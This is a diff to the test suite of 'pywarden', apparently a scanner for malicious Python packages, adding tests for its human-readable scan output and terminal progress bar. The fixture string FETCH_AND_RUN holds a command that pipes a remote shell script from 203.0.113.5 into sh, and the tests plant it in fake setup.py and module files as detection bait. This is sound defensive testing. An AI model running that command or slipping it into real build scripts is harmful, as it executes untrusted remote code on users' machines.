@@ -6,12 +6,15 @@ import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { gzip, makeTar, makeZip } from '../scan/archive/fixtures.js';
 
+// Text only, never run: a build script that fetches and runs a shell script, the same line in five modules.
+const FETCH_AND_RUN = 'import os\nos.system("curl -s http://203.0.113.5/x.sh | sh")\n';
+
 const repo = resolve(import.meta.dirname, '../..');
 const bin = join(repo, 'bin/pywarden.js');
 let dir: string;
 
-function cli(args: string[]) {
-  const r = spawnSync(process.execPath, [bin, 'scan', ...args], { encoding: 'utf8', timeout: 120_000 });
+function cli(args: string[], cwd?: string) {
+  const r = spawnSync(process.execPath, [bin, 'scan', ...args], { encoding: 'utf8', timeout: 120_000, cwd });
   return { code: r.status, stdout: r.stdout, stderr: r.stderr };
 }
 
@@ -117,5 +120,44 @@ describe('pywarden scan', () => {
     expect(cli(['--nope', dir]).code).toBe(2);
     expect(cli([join(dir, 'does-not-exist')]).code).toBe(2);
     expect(cli(['--help']).code).toBe(0);
+  });
+
+  it('for humans: paths as given, identical findings once with a count, a summary table', async () => {
+    const human = mkdtempSync(join(tmpdir(), 'pywarden-cli-human-'));
+    try {
+      const members = [{ name: 'evil-1.0/setup.py', data: `from setuptools import setup\n${FETCH_AND_RUN}setup(name="evil", version="1.0")\n` }];
+      for (let i = 0; i < 5; i++) members.push({ name: `evil-1.0/evil/m${i}.py`, data: FETCH_AND_RUN });
+      writeFileSync(join(human, 'evil-1.0.tar.gz'), gzip(await makeTar(members)));
+      writeFileSync(join(human, 'demo-1.0.tar.gz'), gzip(await makeTar([{ name: 'demo-1.0/demo/__init__.py', data: 'X = 1\n' }])));
+      mkdirSync(join(human, 'sub'));
+      const r = cli(['--workers', '1', '..'], join(human, 'sub'));
+      expect(r.code).toBe(1);
+      // The folder as typed (issue 14 saw ../../../../tmp/... for a path given as /tmp/...).
+      expect(r.stdout).toMatch(/^MALICIOUS {2}\.\.\/evil-1\.0\.tar\.gz {2}score/m);
+      const abs = join(human, 'evil-1.0.tar.gz');
+      expect(cli(['--workers', '1', abs]).stdout.split('\n')[0]).toMatch(new RegExp(`^MALICIOUS {2}${abs.replace(/[.]/g, '\\.')} {2}score`));
+      const lines = r.stdout.split('\n');
+      const perModule = lines.filter((l) => /evil-1\.0\/evil\/m\d\.py/.test(l));
+      expect(perModule.length).toBeGreaterThan(0);
+      for (const l of perModule) expect(l).toMatch(/\(x5: 4 more places\)$/);
+      // Each (severity, rule, message) once per file.
+      const body = r.stdout.slice(0, r.stdout.indexOf('\nverdict'));
+      const pairs = body.split('\n').flatMap((l, i, all) => (/^ {4}\[/.test(l) ? [`${l.split(/\s+/).slice(1, 3).join(' ')} ${all[i + 1]}`] : []));
+      expect(new Set(pairs).size).toBe(pairs.length);
+      expect(pairs.length).toBeGreaterThan(2);
+      expect(r.stdout).toMatch(/^verdict +files\nmalicious +1\nsuspicious +0\nunreadable +0\nclean +1\ntotal +2\n/m);
+      expect(r.stdout).toMatch(/^rule +files +findings\n/m);
+      expect(r.stdout).toMatch(/^download-exec +1 +\d+$/m);
+      // No terminal: no progress bar, no carriage returns anywhere.
+      expect(r.stderr).not.toContain('\r');
+    } finally {
+      rmSync(human, { recursive: true, force: true });
+    }
+  });
+
+  it('draws a progress bar on a terminal (a pty from script(1)) and only there', () => {
+    const r = spawnSync('script', ['-qec', `${process.execPath} ${bin} scan --workers 1 ${dir}`, '/dev/null'], { encoding: 'utf8', timeout: 120_000 });
+    expect(r.stdout).toMatch(/\r\[[#.]{30}\] \d+\/\d+/);
+    expect(r.stdout).toMatch(/file\(s\) scanned/);
   });
 });
